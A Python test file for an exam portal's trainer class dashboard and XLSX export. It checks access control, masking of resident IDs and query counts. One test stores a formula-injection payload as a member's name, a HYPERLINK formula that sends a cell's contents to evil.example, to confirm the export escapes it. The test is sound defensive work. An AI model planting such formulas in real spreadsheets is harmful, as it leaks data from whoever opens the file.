"""The class dashboard: completion per assignment, the score distribution, each
member's trend and predicted pass probability, the class's weak knowledge points and
item statistics of the class's papers, exported to XLSX; only for the class's
trainers, only what enrolment shares, in a fixed number of queries."""

from datetime import timedelta
from io import BytesIO

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook

from exam_portal.extensions import db
from exam_portal.models.accounts import CandidateProfile, Role
from exam_portal.models.classes import ClassAssignment, TrainingClass
from exam_portal.models.types import utcnow
from exam_portal.services.delivery import mastery
from exam_portal.services.exam_sessions import class_dashboard
from question_bank.assignments import EnrolmentStatus
from question_bank.levels import Level
from question_bank.subjects import Subject

from ..factories import logged_in, make_user
from .class_support import (
    assign,
    class_world,
    enrol,
    hand_in_paper,
    start_assignment,
    user_email,
)
from .practice_support import objective_bank

pytestmark = pytest.mark.usefixtures("one_leg")


def _member(app, world, name=None):
    user_id = make_user(app)
    if name:
        with app.app_context():
            db.session.add(CandidateProfile(user_id=user_id, real_name=name))
            db.session.commit()
    enrol(app, world, user_id)
    return user_id


@pytest.fixture
def busy_class(app):
    """An 助理 class of three members: two handed in the class's mock paper (80 % and
    40 % of its items right), one started it; an invited candidate and an outsider's paper do not
    count."""
    objective_bank(app, Subject.COMP_JR)
    world = class_world(app, Level.ASSISTANT)
    strong, weak, idle = (_member(app, world, name) for name in ("张强", "李弱", "王闲"))
    invited = make_user(app)
    enrol(app, world, invited, EnrolmentStatus.INVITED)
    assignment_id = assign(app, world, Subject.COMP_JR)
    hand_in_paper(app, start_assignment(app, assignment_id, strong), right=0.8)
    hand_in_paper(app, start_assignment(app, assignment_id, weak), right=0.4)
    start_assignment(app, assignment_id, idle)
    hand_in_paper(app, start_assignment(app, assignment_id, invited), right=1.0)
    return world, (strong, weak, idle), assignment_id


def _page(app, world, trainer=0, **args):
    client = logged_in(app, world.trainers[trainer])
    query = "&".join(f"{k}={v}" for k, v in args.items())
    return client.get(f"/trainer/classes/{world.class_id}/dashboard?{query}")


def test_the_dashboard_shows_completion_distribution_trends_and_predictions(app, busy_class):
    world, (strong, weak, idle), _assignment_id = busy_class
    response = _page(app, world)
    assert response.status_code == 200
    text = response.get_data(as_text=True)
    assert "2 / 3" in text and "67%" in text  # two of three enrolled handed in
    assert "张强" in text and "李弱" in text and "王闲" in text
    assert user_email(app, strong) in text
    with app.app_context():
        board = class_dashboard.dashboard(db.session.get(TrainingClass, world.class_id),
                                          now=utcnow())
        [row] = board.assignments
        assert (row.enrolled, row.done, row.in_progress, row.overdue) == (3, 2, 1, 0)
        assert sorted(row.scored) == [32.0, 68.0]  # singles 1 point, multis 2
        assert [b.count for b in board.distribution] == [0, 0, 0, 1, 0, 0, 1, 0, 0, 0]
        members = {m.candidate_id: m for m in board.members}
        assert set(members) == {strong, weak, idle}  # the invited one shares nothing
        assert [p.percent for p in members[strong].trend] == [68.0]
        assert members[idle].trend == () and members[idle].done == 0
        version = board.version
        for candidate_id in (strong, weak):
            # The same prediction as on the candidate's own dashboard.
            assert members[candidate_id].predictions == {
                subject: predicted for subject, predicted
                in mastery.predictions(candidate_id, version).items()
                if subject in board.subjects}
    assert "成绩分布数据" in text  # the chart's figures as a table


def test_weak_points_and_item_statistics_come_from_the_class_alone(app, busy_class):
    world, _members, assignment_id = busy_class
    with app.app_context():
        board = class_dashboard.dashboard(db.session.get(TrainingClass, world.class_id),
                                          now=utcnow())
    # Two members handed in: no item was answered more than twice in the class (the
    # invited candidate's paper is not the class's), and two members are too few.
    assert board.items and max(row.answered for row in board.items) == 2
    assert board.weak == []
    second = assign(app, world, Subject.COMP_JR, title="第二次模拟考试")
    for _ in range(2):
        hand_in_paper(app, start_assignment(app, second, _member(app, world)), right=0.1)
    with app.app_context():
        board = class_dashboard.dashboard(db.session.get(TrainingClass, world.class_id),
                                          now=utcnow())
    assert max(row.answered for row in board.items) == 4
    assert board.weak, "four members, two of them weak everywhere"
    for weak in board.weak:
        assert weak.point.members == 4 and weak.point.p_known < 0.5
        assert weak.title and weak.subject is Subject.COMP_JR
    assert assignment_id
    page = _page(app, world).get_data(as_text=True)
    assert board.weak[0].title in page


def test_the_dashboard_exports_to_xlsx(app, busy_class):
    world, (strong, _weak, _idle), _assignment_id = busy_class
    client = logged_in(app, world.trainers[1])
    response = client.get(f"/trainer/classes/{world.class_id}/dashboard.xlsx")
    assert response.status_code == 200
    assert response.mimetype.endswith("spreadsheetml.sheet")
    book = load_workbook(BytesIO(response.data))
    assert book.sheetnames == ["作业完成情况", "学员", "成绩分布", "薄弱知识点", "题目统计"]
    members = list(book["学员"].iter_rows(values_only=True))
    assert len(members) == 4 and members[0][1] == "邮箱"
    assert user_email(app, strong) in {row[1] for row in members}
    assignments = list(book["作业完成情况"].iter_rows(values_only=True))
    assert assignments[1][4:6] == (3, 2)


def test_only_the_class_trainers_see_the_dashboard(app, busy_class):
    world, (strong, _weak, _idle), _assignment_id = busy_class
    admin = make_user(app, Role.ADMIN, email="dashboard-admin@example.com")
    for url in (f"/trainer/classes/{world.class_id}/dashboard",
                f"/trainer/classes/{world.class_id}/dashboard.xlsx"):
        assert logged_in(app, world.outsider).get(url).status_code == 404
        assert logged_in(app, strong).get(url).status_code == 403
        assert logged_in(app, admin).get(url).status_code == 403
        assert app.test_client().get(url).status_code == 302  # to the sign-in page
    assert logged_in(app, world.trainers[0]).get(
        f"/trainer/classes/{world.class_id + 99}/dashboard").status_code == 404


def test_the_dashboard_never_shows_a_resident_id(app, busy_class):
    world, (strong, _weak, _idle), _assignment_id = busy_class
    with app.app_context():
        db.session.scalar(sa.select(CandidateProfile).where(
            CandidateProfile.user_id == strong)).resident_id_masked = "110105********002X"
        db.session.commit()
    text = _page(app, world).get_data(as_text=True)
    assert "110105" not in text and "002X" not in text
    export = logged_in(app, world.trainers[0]).get(
        f"/trainer/classes/{world.class_id}/dashboard.xlsx").data
    book = load_workbook(BytesIO(export))
    cells = {str(cell) for sheet in book for row in sheet.iter_rows(values_only=True)
             for cell in row}
    assert not any("110105" in cell for cell in cells)


def _count_queries(app, url, client) -> int:
    with app.app_context():
        engine = db.engine
    statements = []

    def count(conn, cursor, statement, *args):
        statements.append(statement)

    sa.event.listen(engine, "before_cursor_execute", count)
    try:
        assert client.get(url).status_code == 200
    finally:
        sa.event.remove(engine, "before_cursor_execute", count)
    return len(statements)


def test_the_dashboard_reads_a_big_class_in_as_many_queries_as_a_small_one(app):
    objective_bank(app, Subject.COMP_JR)
    small, big = class_world(app, Level.ASSISTANT), class_world(app, Level.ASSISTANT)
    for world, size in ((small, 2), (big, 8)):
        assignment_id = assign(app, world, Subject.COMP_JR)
        assign(app, world, Subject.COMP_JR, title="第二次模拟考试")
        for n in range(size):
            member = _member(app, world, f"学员{n}")
            hand_in_paper(app, start_assignment(app, assignment_id, member), right=0.5)
    urls = {world.class_id: f"/trainer/classes/{world.class_id}/dashboard"
            for world in (small, big)}
    clients = {world.class_id: logged_in(app, world.trainers[0]) for world in (small, big)}
    for world in (small, big):  # warm the caches (paper layouts, item contents)
        clients[world.class_id].get(urls[world.class_id])
    counts = [_count_queries(app, urls[w.class_id], clients[w.class_id]) for w in (small, big)]
    assert counts[0] == counts[1], counts
    assert counts[1] < 40, counts


def test_the_export_keeps_what_people_wrote_as_text_never_a_formula(app):
    """A name, an e-mail or a title starting with = (or + - @) would run as a formula
    in a spreadsheet: the export puts the CSV guard's ' in front, as a text cell."""
    world = class_world(app, Level.ASSISTANT)
    evil = '=HYPERLINK("http://evil.example/?x="&A2,"click")'
    member = make_user(app, email="=1+1@example.com")
    with app.app_context():
        db.session.add(CandidateProfile(user_id=member, real_name=evil))
        db.session.commit()
    enrol(app, world, member)
    assign(app, world, Subject.COMP_JR, title="+SUM(1,2)")
    response = logged_in(app, world.trainers[0]).get(
        f"/trainer/classes/{world.class_id}/dashboard.xlsx")
    book = load_workbook(BytesIO(response.data))
    name, email = book["学员"]["A2"], book["学员"]["B2"]
    title = book["作业完成情况"]["A2"]
    for cell, written in ((name, evil), (email, "=1+1@example.com"), (title, "+SUM(1,2)")):
        assert cell.data_type == "s", cell.value
        assert cell.value == "'" + written


@pytest.mark.parametrize("value", ["²", "٣", "-1", "99999999999999999999", "x"])
def test_an_odd_assignment_number_shows_the_latest_scored_assignment(app, busy_class, value):
    world, _members, _assignment_id = busy_class
    client = logged_in(app, world.trainers[0])
    for page in ("dashboard", "dashboard.xlsx"):
        response = client.get(f"/trainer/classes/{world.class_id}/{page}?assignment={value}")
        assert response.status_code == 200, (page, value)


def test_a_withdrawn_assignment_is_never_overdue_on_the_dashboard(app, busy_class):
    world, _members, assignment_id = busy_class
    withdrawn = assign(app, world, Subject.COMP_JR, title="撤回的作业",
                       due_in=-timedelta(days=1))
    with app.app_context():
        db.session.get(ClassAssignment, withdrawn).withdrawn_at = utcnow()
        db.session.commit()
        board = class_dashboard.dashboard(db.session.get(TrainingClass, world.class_id),
                                          now=utcnow())
    assert [row.assignment.id for row in board.assignments] == [assignment_id]
    assert "撤回的作业" not in _page(app, world).get_data(as_text=True)
    book = load_workbook(BytesIO(logged_in(app, world.trainers[0]).get(
        f"/trainer/classes/{world.class_id}/dashboard.xlsx").data))
    assert [row[0] for row in book["作业完成情况"].iter_rows(min_row=2, values_only=True)] \
        == ["第一次模拟考试"]
